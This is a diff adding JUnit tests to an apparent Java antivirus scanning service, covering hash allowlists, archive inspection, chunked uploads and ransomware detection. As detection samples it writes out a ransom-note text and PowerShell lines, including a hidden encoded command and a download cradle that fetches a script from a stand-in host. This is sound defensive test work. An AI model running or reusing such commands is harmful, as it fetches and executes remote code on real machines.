@@ -1,7 +1,10 @@
 package com.antivirus.service.impl;
 
+import com.antivirus.dto.ScanHistoryResponse;
 import com.antivirus.model.ScanResult;
+import com.antivirus.model.ScanSummary;
 import com.antivirus.repository.ScanResultRepository;
+import com.antivirus.repository.ScanSummaryRepository;
 import com.antivirus.service.LogService;
 import com.antivirus.service.SystemMonitorService;
 import org.junit.jupiter.api.AfterEach;
@@ -9,24 +12,32 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.api.io.TempDir;
+import org.mockito.ArgumentCaptor;
 import org.mockito.InjectMocks;
 import org.mockito.Mock;
 import org.mockito.junit.jupiter.MockitoExtension;
+import org.springframework.data.domain.PageImpl;
+import org.springframework.data.domain.PageRequest;
 import org.springframework.security.core.Authentication;
 import org.springframework.security.core.context.SecurityContext;
 import org.springframework.security.core.context.SecurityContextHolder;
 import org.springframework.security.crypto.password.PasswordEncoder;
+import org.springframework.test.util.ReflectionTestUtils;
 
 import java.io.File;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.LocalDateTime;
+import java.util.HexFormat;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import static org.junit.jupiter.api.Assertions.*;
+import static org.mockito.AdditionalMatchers.aryEq;
 import static org.mockito.ArgumentMatchers.any;
-import static org.mockito.ArgumentMatchers.anyString;
+import static org.mockito.ArgumentMatchers.anyBoolean;
+import static org.mockito.ArgumentMatchers.eq;
 import static org.mockito.Mockito.*;
 
 @ExtendWith(MockitoExtension.class)
@@ -47,6 +58,21 @@ class SecurityServiceImplTest {
     @Mock
     private ThreatIntelSignatureService threatIntelSignatureService;
 
+    @Mock
+    private SignatureSnapshot signatureSnapshot;
+
+    @Mock
+    private KnownGoodHashService knownGoodHashService;
+
+    @Mock
+    private RetroHuntService retroHuntService;
+
+    @Mock
+    private ScanResultWriter scanResultWriter;
+
+    @Mock
+    private ScanSummaryRepository scanSummaryRepository;
+
     @Mock
     private SecurityContext securityContext;
 
@@ -65,6 +91,7 @@ class SecurityServiceImplTest {
         lenient().when(securityContext.getAuthentication()).thenReturn(authentication);
         lenient().when(authentication.isAuthenticated()).thenReturn(true);
         lenient().when(authentication.getName()).thenReturn("testuser");
+        lenient().when(threatIntelSignatureService.snapshot()).thenReturn(signatureSnapshot);
     }
 
     @AfterEach
@@ -115,7 +142,7 @@ class SecurityServiceImplTest {
         // Real hash lookup logic lives in ThreatIntelSignatureService and is
         // covered by its own test class; here we only need scanFile() to
         // honor whatever that service reports.
-        when(threatIntelSignatureService.isKnownMalicious(anyString())).thenReturn(true);
+        when(signatureSnapshot.isKnownMalicious(any(FileDigests.class))).thenReturn(true);
 
         ScanResult result = securityService.scanFile(sampleFile);
 
@@ -127,6 +154,88 @@ class SecurityServiceImplTest {
         assertEquals("REPORTED", result.getActionTaken());
     }
 
+    // ── scanFile: known-good allowlist ──────────────────────────────
+
+    @Test
+    void scanFile_ShouldReturnCleanForKnownGoodHashWithoutRunningDetectors() throws Exception {
+        // Would be MALICIOUS on content alone.
+        File file = tempDir.resolve("payload.locked").toFile();
+        Files.writeString(file.toPath(),
+                "Your files have been encrypted. Send payment to our BTC wallet to recover them.");
+        when(knownGoodHashService.isKnownGood(aryEq(sha256(Files.readAllBytes(file.toPath()))))).thenReturn(true);
+
+        ScanResult result = securityService.scanFile(file);
+
+        assertEquals("CLEAN", result.getVerdict());
+        assertFalse(result.isInfected());
+        assertEquals(0, result.getRiskScore());
+        assertEquals("KNOWN_GOOD_HASH", result.getDetectionSignals());
+    }
+
+    @Test
+    void scanFile_ShouldPreferKnownMaliciousOverKnownGood() throws IOException {
+        File file = tempDir.resolve("tool.bin").toFile();
+        Files.writeString(file.toPath(), "on both lists");
+        when(knownGoodHashService.isKnownGood(any(byte[].class))).thenReturn(true);
+        when(signatureSnapshot.isKnownMalicious(any(FileDigests.class))).thenReturn(true);
+
+        ScanResult result = securityService.scanFile(file);
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("KNOWN_HASH_MATCH"));
+    }
+
+    // ── scanFile: content-hash verdict cache ────────────────────────
+
+    @Test
+    void scanFile_ShouldReuseContentVerdictForIdenticalBytes() throws IOException {
+        String note = "Your files have been encrypted. Send payment to our BTC wallet to recover them.";
+        File first = tempDir.resolve("note.txt").toFile();
+        File second = tempDir.resolve("payload.locked").toFile();
+        Files.writeString(first.toPath(), note);
+        Files.writeString(second.toPath(), note);
+
+        ScanResult firstResult = securityService.scanFile(first);
+        ScanResult secondResult = securityService.scanFile(second);
+
+        // The content detectors ran once; the second file's name-based
+        // signals are still its own.
+        verify(signatureSnapshot, times(1)).isKnownMalicious(any(FileDigests.class));
+        assertTrue(firstResult.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertFalse(firstResult.getDetectionSignals().contains("RANSOMWARE_EXTENSION"));
+        assertTrue(secondResult.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertTrue(secondResult.getDetectionSignals().contains("RANSOMWARE_EXTENSION"));
+    }
+
+    @Test
+    void scanFile_ShouldRecomputeContentVerdictAfterSignatureReload() throws IOException {
+        File file = tempDir.resolve("sample.bin").toFile();
+        Files.writeString(file.toPath(), "same bytes twice");
+
+        ScanResult before = securityService.scanFile(file);
+        when(signatureSnapshot.version()).thenReturn(1L);
+        when(signatureSnapshot.isKnownMalicious(any(FileDigests.class))).thenReturn(true);
+        ScanResult result = securityService.scanFile(file);
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertEquals(0L, before.getSignatureVersion());
+        assertEquals(1L, result.getSignatureVersion());
+        verify(signatureSnapshot, times(2)).isKnownMalicious(any(FileDigests.class));
+    }
+
+    @Test
+    void scanFile_ShouldRecordContentHashSizeAndModifiedTime() throws Exception {
+        File file = tempDir.resolve("hashed.txt").toFile();
+        Files.writeString(file.toPath(), "retro-hunt me later");
+
+        ScanResult result = securityService.scanFile(file);
+
+        assertEquals(HexFormat.of().formatHex(sha256(Files.readAllBytes(file.toPath()))),
+                result.getContentSha256());
+        assertEquals(file.length(), result.getFileSize());
+        assertNotNull(result.getFileModifiedAt());
+    }
+
     // ── scanFile: extension masquerade ──────────────────────────────
 
     @Test
@@ -161,6 +270,130 @@ class SecurityServiceImplTest {
         assertTrue(result.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
     }
 
+    @Test
+    void scanFile_ShouldScoreADirectoryWithRansomNoteAndRenamedFiles() throws IOException {
+        Path victim = Files.createDirectory(tempDir.resolve("victim"));
+        Files.writeString(victim.resolve("HOW_TO_DECRYPT.html"), "<p>instructions</p>");
+        for (int i = 0; i < 5; i++) {
+            Files.writeString(victim.resolve("report" + i + ".docx.k3y"), "opaque " + i);
+        }
+
+        ScanResult first = securityService.scanFile(victim.resolve("report0.docx.k3y").toFile());
+        ScanResult second = securityService.scanFile(victim.resolve("report1.docx.k3y").toFile());
+
+        assertTrue(first.getDetectionSignals().contains("RANSOMWARE_DIRECTORY_BEHAVIOR"));
+        assertTrue(second.getDetectionSignals().contains("RANSOMWARE_DIRECTORY_BEHAVIOR"));
+        assertEquals("SUSPICIOUS", first.getVerdict());
+    }
+
+    // ── scanFile: single-pass content inspection ────────────────────
+
+    @Test
+    void scanFile_ShouldLookUpSha256OfWholeFileForZipArchives() throws Exception {
+        File archive = tempDir.resolve("bundle.zip").toFile();
+        writeZip(archive.toPath(), Map.of("readme.txt", "plain text", "tool.exe", "MZ not really"));
+
+        securityService.scanFile(archive);
+
+        // The zip inspector consumes the same stream the digest is fed
+        // from, so the hash must still cover every byte of the file
+        // (including the central directory the inspector never reads).
+        byte[] expected = sha256(Files.readAllBytes(archive.toPath()));
+        verify(signatureSnapshot).isKnownMalicious(argThat((FileDigests digests) ->
+                java.util.Arrays.equals(expected, digests.sha256())));
+    }
+
+    @Test
+    void scanFile_ShouldMatchMd5SignatureComputedInSamePass() throws Exception {
+        File file = tempDir.resolve("dropper.bin").toFile();
+        Files.writeString(file.toPath(), "payload listed by MD5 only");
+        byte[] md5 = java.security.MessageDigest.getInstance("MD5").digest(Files.readAllBytes(file.toPath()));
+        SignatureSnapshot md5Only = SignatureSnapshot.EMPTY.withDelta(HashType.MD5,
+                SignatureStore.empty(HashType.MD5).merge(List.of(md5)));
+        when(threatIntelSignatureService.snapshot()).thenReturn(md5Only);
+
+        ScanResult result = securityService.scanFile(file);
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("KNOWN_HASH_MATCH"));
+        // Still keyed and recorded by SHA-256.
+        assertEquals(HexFormat.of().formatHex(sha256(Files.readAllBytes(file.toPath()))),
+                result.getContentSha256());
+    }
+
+    @Test
+    void scanFile_ShouldHashAndInspectFileTooLargeToPrefetchInOnePass() throws Exception {
+        setField(securityService, "pipelineMaxPrefetchFileMb", 0);
+        File note = tempDir.resolve("README.locked").toFile();
+        Files.writeString(note.toPath(), "Your files have been encrypted. Send payment to our BTC wallet "
+                + "to recover them.");
+
+        ScanResult first = securityService.scanFile(note);
+        ScanResult second = securityService.scanFile(note);
+
+        assertTrue(first.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertEquals(first.getRiskScore(), second.getRiskScore());
+        assertEquals(HexFormat.of().formatHex(sha256(Files.readAllBytes(note.toPath()))), first.getContentSha256());
+        // The first scan seeded the verdict cache; the second was a hit.
+        verify(signatureSnapshot, times(1)).isKnownMalicious(any(FileDigests.class));
+    }
+
+    @Test
+    void scanFile_ShouldDetectRansomNoteInsideNestedArchive() throws Exception {
+        Path inner = tempDir.resolve("inner.zip");
+        writeZip(inner, Map.of("README_RESTORE.txt",
+                "Your files have been encrypted. Send payment to our BTC wallet to recover them."));
+        File archive = tempDir.resolve("backup.tar").toFile();
+        Files.write(archive.toPath(), ArchiveInspectorTest.tar(Map.of("inner.zip", Files.readAllBytes(inner))));
+
+        ScanResult result = securityService.scanFile(archive);
+
+        assertTrue(result.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertNotEquals("CLEAN", result.getVerdict());
+    }
+
+    @Test
+    void scanFile_ShouldReturnMaliciousForKnownHashOfArchiveEntry() throws Exception {
+        byte[] dropper = "not really malware, but listed".getBytes(java.nio.charset.StandardCharsets.UTF_8);
+        byte[] dropperHash = sha256(dropper);
+        when(signatureSnapshot.isKnownMalicious(any(byte[].class)))
+                .thenAnswer(invocation -> java.util.Arrays.equals(dropperHash, invocation.getArgument(0)));
+        File archive = tempDir.resolve("tools.zip").toFile();
+        writeZip(archive.toPath(), Map.of("bin/dropper.dat", new String(dropper, java.nio.charset.StandardCharsets.UTF_8)));
+
+        ScanResult result = securityService.scanFile(archive);
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("ARCHIVE_ENTRY_MATCH"));
+        assertTrue(result.getThreatDetails().contains("bin/dropper.dat"));
+    }
+
+    @Test
+    void scanFile_ShouldReportExecutableZipEntryFromSinglePass() throws Exception {
+        File archive = tempDir.resolve("bundle.zip").toFile();
+        writeZip(archive.toPath(), Map.of("tool.exe", "harmless bytes"));
+
+        ScanResult result = securityService.scanFile(archive);
+
+        assertEquals("CLEAN", result.getVerdict());
+        assertEquals(15, result.getRiskScore());
+        assertTrue(result.getDetectionSignals().contains("ZIP_CONTAINS_EXECUTABLE_ENTRY"));
+    }
+
+    @Test
+    void scanFile_ShouldMatchStrongPatternsBeyondFirstReadChunk() throws IOException {
+        File script = tempDir.resolve("setup.txt").toFile();
+        String padding = "lorem ipsum dolor sit amet\n".repeat(2_000);
+        Files.writeString(script.toPath(), padding
+                + "powershell -w hidden -enc SQBFAFgA\n"
+                + "powershell (New-Object Net.WebClient).DownloadString('http://x')\n");
+
+        ScanResult result = securityService.scanFile(script);
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("STRONG_CODE_PATTERN(x2)"));
+    }
+
     @Test
     void scanFile_ShouldReturnErrorForNonExistentFile() {
         File missing = new File(tempDir.toFile(), "does-not-exist.txt");
@@ -172,6 +405,110 @@ class SecurityServiceImplTest {
         verify(scanResultRepository, times(1)).save(any(ScanResult.class));
     }
 
+    // ── scanStream: scan-while-uploading ────────────────────────────
+
+    @Test
+    void scanStream_ShouldScoreUploadWithoutWritingItToDisk() throws Exception {
+        byte[] note = "Your files have been encrypted. Send payment to our BTC wallet to recover them."
+                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
+
+        ScanResult result = securityService.scanStream(new java.io.ByteArrayInputStream(note), "payload.locked");
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("RANSOMWARE_EXTENSION"));
+        assertTrue(result.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertEquals("payload.locked", result.getFilePath());
+        assertEquals(HexFormat.of().formatHex(sha256(note)), result.getContentSha256());
+        assertEquals((long) note.length, result.getFileSize());
+        verify(scanResultRepository, times(1)).save(any(ScanResult.class));
+        verify(logService, times(1)).logScanResult(any(ScanResult.class));
+    }
+
+    @Test
+    void scanStream_ShouldInspectArchiveEntriesAndSeedVerdictCache() throws Exception {
+        Path zip = tempDir.resolve("tools.zip");
+        writeZip(zip, Map.of("tool.exe", "harmless bytes"));
+        byte[] bytes = Files.readAllBytes(zip);
+
+        ScanResult streamed = securityService.scanStream(new java.io.ByteArrayInputStream(bytes), "tools.zip");
+        ScanResult onDisk = securityService.scanFile(zip.toFile());
+
+        assertTrue(streamed.getDetectionSignals().contains("ZIP_CONTAINS_EXECUTABLE_ENTRY"));
+        assertEquals(streamed.getRiskScore(), onDisk.getRiskScore());
+        // The file on disk was a cache hit on the upload's verdict.
+        verify(signatureSnapshot, times(1)).isKnownMalicious(any(FileDigests.class));
+    }
+
+    @Test
+    void scanStream_ShouldMatchSha1SignatureComputedInSamePass() throws Exception {
+        byte[] payload = "listed by SHA-1 only".getBytes(java.nio.charset.StandardCharsets.UTF_8);
+        byte[] sha1 = java.security.MessageDigest.getInstance("SHA-1").digest(payload);
+        SignatureSnapshot sha1Only = SignatureSnapshot.EMPTY.withDelta(HashType.SHA1,
+                SignatureStore.empty(HashType.SHA1).merge(List.of(sha1)));
+        when(threatIntelSignatureService.snapshot()).thenReturn(sha1Only);
+
+        ScanResult result = securityService.scanStream(new java.io.ByteArrayInputStream(payload), "dropper.bin");
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("KNOWN_HASH_MATCH"));
+    }
+
+    // ── chunked uploads ─────────────────────────────────────────────
+
+    @Test
+    void chunkedUpload_ShouldReturnVerdictForChunksAppendedOutOfOrder() throws Exception {
+        byte[] note = "Your files have been encrypted. Send payment to our BTC wallet to recover them."
+                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
+        String uploadId = securityService.createChunkedUpload("payload.locked", note.length);
+
+        securityService.appendChunk(uploadId, 40, new java.io.ByteArrayInputStream(note, 40, note.length - 40));
+        Map<String, Object> status = securityService.appendChunk(uploadId, 0,
+                new java.io.ByteArrayInputStream(note, 0, 40));
+        ScanResult result = securityService.completeChunkedUpload(uploadId);
+
+        assertEquals(true, status.get("complete"));
+        assertEquals((long) note.length, status.get("scannedBytes"));
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertTrue(result.getDetectionSignals().contains("RANSOMWARE_NOTE_TEXT"));
+        assertEquals(HexFormat.of().formatHex(sha256(note)), result.getContentSha256());
+        verify(scanResultRepository, times(1)).save(any(ScanResult.class));
+        assertThrows(org.springframework.web.server.ResponseStatusException.class,
+                () -> securityService.getChunkedUploadStatus(uploadId));
+    }
+
+    @Test
+    void chunkedUpload_ShouldRefuseToCompleteWithMissingBytes() throws Exception {
+        String uploadId = securityService.createChunkedUpload("big.bin", 100);
+        securityService.appendChunk(uploadId, 0, new java.io.ByteArrayInputStream(new byte[50]));
+
+        org.springframework.web.server.ResponseStatusException ex = assertThrows(
+                org.springframework.web.server.ResponseStatusException.class,
+                () -> securityService.completeChunkedUpload(uploadId));
+
+        assertEquals(org.springframework.http.HttpStatus.CONFLICT, ex.getStatusCode());
+        @SuppressWarnings("unchecked")
+        List<long[]> ranges = (List<long[]>) securityService.getChunkedUploadStatus(uploadId).get("receivedRanges");
+        assertArrayEquals(new long[] { 0, 50 }, ranges.get(0));
+    }
+
+    @Test
+    void chunkedUpload_ShouldExpireIdleUploadAndDeleteItsTempFile() throws Exception {
+        org.springframework.test.util.ReflectionTestUtils.setField(securityService,
+                "chunkedUploadIdleTimeoutMinutes", 0L);
+        String uploadId = securityService.createChunkedUpload("big.bin", 100);
+        securityService.appendChunk(uploadId, 0, new java.io.ByteArrayInputStream(new byte[10]));
+        @SuppressWarnings("unchecked")
+        Map<String, ChunkedUpload> uploads = (Map<String, ChunkedUpload>)
+                org.springframework.test.util.ReflectionTestUtils.getField(securityService, "chunkedUploads");
+        Path file = uploads.get(uploadId).file();
+
+        Thread.sleep(5);
+        securityService.reapExpiredChunkedUploads();
+
+        assertFalse(Files.exists(file));
+        assertTrue(uploads.isEmpty());
+    }
+
     // ── detectMalware / detectTrojan / detectRansomware ─────────────
 
     @Test
@@ -207,6 +544,21 @@ class SecurityServiceImplTest {
         assertFalse(securityService.detectTrojan(testFile));
     }
 
+    // ── real-time ransomware behavior ───────────────────────────────
+
+    @Test
+    void reportRansomwareBehavior_ShouldSubmitALoggedRansomwareResult() {
+        ScanResult result = securityService.reportRansomwareBehavior("/home/me/docs",
+                List.of("RANSOMWARE_RENAME_RATE", "RANSOMWARE_NEW_EXTENSION_RATE"), "Directory in 10 s: 80 renames");
+
+        assertEquals("MALICIOUS", result.getVerdict());
+        assertEquals("RANSOMWARE", result.getThreatType());
+        assertEquals("REALTIME", result.getScanType());
+        assertEquals("/home/me/docs", result.getFilePath());
+        assertEquals("RANSOMWARE_RENAME_RATE,RANSOMWARE_NEW_EXTENSION_RATE", result.getDetectionSignals());
+        verify(scanResultWriter).submit(result, true);
+    }
+
     // ── quarantine / delete ──────────────────────────────────────────
 
     @Test
@@ -344,6 +696,184 @@ class SecurityServiceImplTest {
         assertFalse(Files.exists(jobDir));
     }
 
+    @Test
+    void directoryScanJob_ShouldOnlyCountCleanFilesWhenAggregatingCleanResults() throws Exception {
+        ReflectionTestUtils.setField(securityService, "aggregateCleanResults", true);
+        Path jobDir = Files.createDirectory(tempDir.resolve("job-input"));
+        Files.writeString(jobDir.resolve("clean.txt"), "Nothing suspicious here.");
+        Files.writeString(jobDir.resolve("payload.locked"),
+                "Your files have been encrypted. Send payment to our BTC wallet to recover them.");
+
+        String jobId = securityService.startDirectoryScanJob(jobDir, "job-input", 2);
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        // The job still reports both files; only the infected one is stored.
+        assertEquals(2, (int) status.get("processedFiles"));
+        ArgumentCaptor<ScanResult> stored = ArgumentCaptor.forClass(ScanResult.class);
+        verify(scanResultWriter).submit(stored.capture(), anyBoolean());
+        assertTrue(stored.getValue().isInfected());
+
+        ArgumentCaptor<ScanSummary> summary = ArgumentCaptor.forClass(ScanSummary.class);
+        verify(scanSummaryRepository).save(summary.capture());
+        assertEquals("DIRECTORY", summary.getValue().getScanType());
+        assertEquals("testuser", summary.getValue().getOwnerUsername());
+        assertEquals("job-input", summary.getValue().getTargetName());
+        assertEquals(2, summary.getValue().getFilesScanned());
+        assertEquals(1, summary.getValue().getCleanFiles());
+        assertEquals(1, summary.getValue().getMaliciousFiles());
+        assertEquals(1, summary.getValue().getStoredResults());
+        assertEquals(0, summary.getValue().getStoredClean());
+        assertTrue(summary.getValue().getBytesScanned() > 0);
+    }
+
+    @Test
+    void directoryScanJob_ShouldStoreEveryResultAndSummaryByDefault() throws Exception {
+        Path jobDir = Files.createDirectory(tempDir.resolve("job-input"));
+        Files.writeString(jobDir.resolve("clean.txt"), "Nothing suspicious here.");
+
+        String jobId = securityService.startDirectoryScanJob(jobDir, "job-input", 1);
+        pollDirectoryScanJobUntilComplete(jobId);
+
+        verify(scanResultWriter).submit(any(ScanResult.class), anyBoolean());
+        ArgumentCaptor<ScanSummary> summary = ArgumentCaptor.forClass(ScanSummary.class);
+        verify(scanSummaryRepository).save(summary.capture());
+        assertEquals(1, summary.getValue().getStoredResults());
+        assertEquals(1, summary.getValue().getStoredClean());
+    }
+
+    @Test
+    void directoryScanJob_ShouldLeaveOutFilesExcludedByUpdatedRules() throws Exception {
+        Path jobDir = Files.createDirectory(tempDir.resolve("job-input"));
+        Files.writeString(jobDir.resolve("clean.txt"), "Nothing suspicious here.");
+        Files.writeString(jobDir.resolve("payload.locked"),
+                "Your files have been encrypted. Send payment to our BTC wallet to recover them.");
+        securityService.updateScanExclusions(List.of("ext:locked"));
+
+        String jobId = securityService.startDirectoryScanJob(jobDir, "job-input", 2);
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        assertEquals(1, (int) status.get("processedFiles"));
+        assertEquals(0, (int) status.get("infectedFiles"));
+        assertEquals(List.of("ext:locked"), securityService.getScanExclusions().get("rules"));
+        assertEquals("admin", securityService.getScanExclusions().get("source"));
+    }
+
+    @Test
+    void updateScanExclusions_ShouldRejectInvalidRulesAndKeepTheCurrentOnes() {
+        Object before = securityService.getScanExclusions().get("rules");
+
+        org.springframework.web.server.ResponseStatusException ex = assertThrows(
+                org.springframework.web.server.ResponseStatusException.class,
+                () -> securityService.updateScanExclusions(List.of("ext:iso", "prefix:")));
+
+        assertEquals(org.springframework.http.HttpStatus.BAD_REQUEST, ex.getStatusCode());
+        assertEquals(before, securityService.getScanExclusions().get("rules"));
+    }
+
+    @Test
+    void archiveScanJob_ShouldScanTarGzEntriesStreamedFromUpload() throws Exception {
+        byte[] tar = ArchiveInspectorTest.tar(Map.of(
+                "docs/clean.txt", "Nothing suspicious here.".getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                "docs/payload.locked", ("Your files have been encrypted. Send payment to our BTC wallet "
+                        + "to recover them.").getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        java.io.ByteArrayOutputStream tarGz = new java.io.ByteArrayOutputStream();
+        try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(tarGz)) {
+            gzip.write(tar);
+        }
+
+        String jobId = securityService.createArchiveScanJob("artifacts.tar.gz");
+        // Pollable before any of the upload has arrived.
+        assertEquals(true, securityService.getDirectoryScanJobStatus(jobId).get("uploading"));
+        Map<String, Object> upload = securityService.uploadArchiveScanJob(jobId,
+                new java.io.ByteArrayInputStream(tarGz.toByteArray()));
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        assertEquals(2, upload.get("entries"));
+        assertEquals(0, upload.get("spilledEntries"));
+        assertFalse((boolean) status.get("failed"));
+        assertEquals(false, status.get("uploading"));
+        assertEquals(2, (int) status.get("processedFiles"));
+        assertEquals(1, (int) status.get("infectedFiles"));
+        @SuppressWarnings("unchecked")
+        List<ScanResult> results = (List<ScanResult>) status.get("results");
+        assertTrue(results.stream().anyMatch(r -> r.getFileName().equals(
+                java.nio.file.Path.of("docs", "payload.locked").toString())));
+    }
+
+    @Test
+    void archiveScanJob_ShouldSpillLargeEntriesAndRejectSecondUpload() throws Exception {
+        setField(securityService, "archiveUploadMemoryThresholdMb", 0);
+        java.io.ByteArrayOutputStream zip = new java.io.ByteArrayOutputStream();
+        try (java.util.zip.ZipOutputStream zos = new java.util.zip.ZipOutputStream(zip)) {
+            zos.putNextEntry(new java.util.zip.ZipEntry("big.txt"));
+            zos.write("harmless".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+            zos.closeEntry();
+        }
+
+        String jobId = securityService.createArchiveScanJob("big.zip");
+        Map<String, Object> upload = securityService.uploadArchiveScanJob(jobId,
+                new java.io.ByteArrayInputStream(zip.toByteArray()));
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        assertEquals(1, upload.get("spilledEntries"));
+        assertEquals(1, (int) status.get("cleanFiles"));
+        // The spilled entry is gone by the time the job reports COMPLETED.
+        Map<?, ?> jobs = (Map<?, ?>) ReflectionTestUtils.getField(securityService, "directoryScanJobs");
+        assertFalse(Files.exists((Path) ReflectionTestUtils.getField(jobs.get(jobId), "tempDir")));
+        assertThrows(org.springframework.web.server.ResponseStatusException.class,
+                () -> securityService.uploadArchiveScanJob(jobId, new java.io.ByteArrayInputStream(new byte[0])));
+    }
+
+    @Test
+    void archiveScanJob_ShouldFailJobForNonArchiveUpload() throws Exception {
+        String jobId = securityService.createArchiveScanJob("notes.txt");
+        Map<String, Object> upload = securityService.uploadArchiveScanJob(jobId,
+                new java.io.ByteArrayInputStream("just text".getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        assertNotNull(upload.get("error"));
+        assertTrue((boolean) status.get("failed"));
+    }
+
+    @Test
+    void archiveScanJob_ShouldFinishJobWhenUploadThrowsUnexpectedly() throws Exception {
+        String jobId = securityService.createArchiveScanJob("broken.zip");
+        java.io.InputStream failing = new java.io.InputStream() {
+            @Override
+            public int read() {
+                throw new IllegalStateException("stream went away");
+            }
+        };
+
+        Map<String, Object> upload = securityService.uploadArchiveScanJob(jobId, failing);
+        Map<String, Object> status = pollDirectoryScanJobUntilComplete(jobId);
+
+        assertNotNull(upload.get("error"));
+        assertTrue((boolean) status.get("failed"));
+        assertEquals(false, status.get("uploading"));
+        Map<?, ?> jobs = (Map<?, ?>) ReflectionTestUtils.getField(securityService, "directoryScanJobs");
+        assertFalse(Files.exists((Path) ReflectionTestUtils.getField(jobs.get(jobId), "tempDir")));
+    }
+
+    @Test
+    void reapAbandonedArchiveScanJobs_ShouldFailJobsWhoseUploadNeverStarted() throws Exception {
+        String waiting = securityService.createArchiveScanJob("later.zip");
+        // A negative timeout puts every job past its deadline.
+        setField(securityService, "archiveUploadStartTimeoutMinutes", -1L);
+        Map<?, ?> jobs = (Map<?, ?>) ReflectionTestUtils.getField(securityService, "directoryScanJobs");
+        Path jobTempDir = (Path) ReflectionTestUtils.getField(jobs.get(waiting), "tempDir");
+
+        securityService.reapAbandonedArchiveScanJobs();
+
+        Map<String, Object> status = securityService.getDirectoryScanJobStatus(waiting);
+        assertTrue((boolean) status.get("failed"));
+        assertEquals(false, status.get("uploading"));
+        assertFalse(Files.exists(jobTempDir));
+        // The upload slot is claimed, so a late PUT is rejected.
+        assertThrows(org.springframework.web.server.ResponseStatusException.class,
+                () -> securityService.uploadArchiveScanJob(waiting, new java.io.ByteArrayInputStream(new byte[0])));
+    }
+
     @Test
     void getDirectoryScanJobStatus_ShouldThrowNotFoundForUnknownJobId() {
         assertThrows(org.springframework.web.server.ResponseStatusException.class,
@@ -380,6 +910,111 @@ class SecurityServiceImplTest {
         throw new AssertionError("Directory scan job " + jobId + " did not complete within timeout");
     }
 
+    // ── scan history: stored rows plus bulk-scan summaries ───────────
+
+    @Test
+    void getScanHistory_ShouldCountFilesFromRowsAndScanSummaries() {
+        when(scanResultRepository.findAllByOrderByScanDateTimeDesc(any()))
+                .thenReturn(new PageImpl<>(List.of(historyRow(LocalDateTime.now())), PageRequest.of(0, 10), 1));
+        ScanSummary scan = new ScanSummary();
+        scan.setScanType("SYSTEM");
+        when(scanSummaryRepository.findByFinishedAtGreaterThanEqualAndFinishedAtLessThanOrderByFinishedAtDesc(
+                any(), any(), any())).thenReturn(List.of(scan));
+        // Single-file scans stored 5 clean rows; one aggregated system scan
+        // of 1000 files stored only its 2 malicious and 1 error results.
+        when(scanResultRepository.countByOutcome()).thenReturn(List.of(
+                outcomeCount("CLEAN", false, "CLEAN", 5),
+                outcomeCount("MALICIOUS", true, "VIRUS", 2),
+                outcomeCount("CLEAN", false, "ERROR", 1)));
+        when(scanSummaryRepository.totals()).thenReturn(summaryTotals(1, 1000, 997, 3, 0));
+
+        ScanHistoryResponse history = securityService.getScanHistory(0, 10);
+
+        assertEquals(1, history.getContent().size());
+        assertEquals(List.of(scan), history.getScans());
+        assertEquals(1005L, history.getTotals().get("files"));
+        assertEquals(1002L, history.getTotals().get("clean"));
+        assertEquals(2L, history.getTotals().get("malicious"));
+        assertEquals(1L, history.getTotals().get("errors"));
+        assertEquals(1L, history.getTotals().get("bulkScans"));
+    }
+
+    @Test
+    void getScanHistoryForOwner_ShouldShowScansBetweenThisPageAndThePreviousOne() {
+        LocalDateTime oldestOnPage = LocalDateTime.of(2026, 1, 1, 10, 0);
+        LocalDateTime newestBefore = LocalDateTime.of(2026, 1, 1, 12, 0);
+        when(scanResultRepository.findByOwnerUsernameOrderByScanDateTimeDesc(eq("alice"),
+                argThat(pageable -> pageable != null && pageable.getPageSize() == 2)))
+                .thenReturn(new PageImpl<>(List.of(historyRow(oldestOnPage.plusMinutes(30)), historyRow(oldestOnPage)),
+                        PageRequest.of(1, 2), 10));
+        when(scanResultRepository.findByOwnerUsernameOrderByScanDateTimeDesc(eq("alice"),
+                argThat(pageable -> pageable != null && pageable.getPageSize() == 1 && pageable.getOffset() == 1)))
+                .thenReturn(new PageImpl<>(List.of(historyRow(newestBefore))));
+        when(scanSummaryRepository.totalsForOwner("alice")).thenReturn(summaryTotals(0, 0, 0, 0, 0));
+
+        securityService.getScanHistoryForOwner("alice", 1, 2);
+
+        verify(scanSummaryRepository)
+                .findByOwnerUsernameAndFinishedAtGreaterThanEqualAndFinishedAtLessThanOrderByFinishedAtDesc(
+                        eq("alice"), eq(oldestOnPage), eq(newestBefore), any());
+    }
+
+    private static ScanResult historyRow(LocalDateTime scanDateTime) {
+        ScanResult result = new ScanResult();
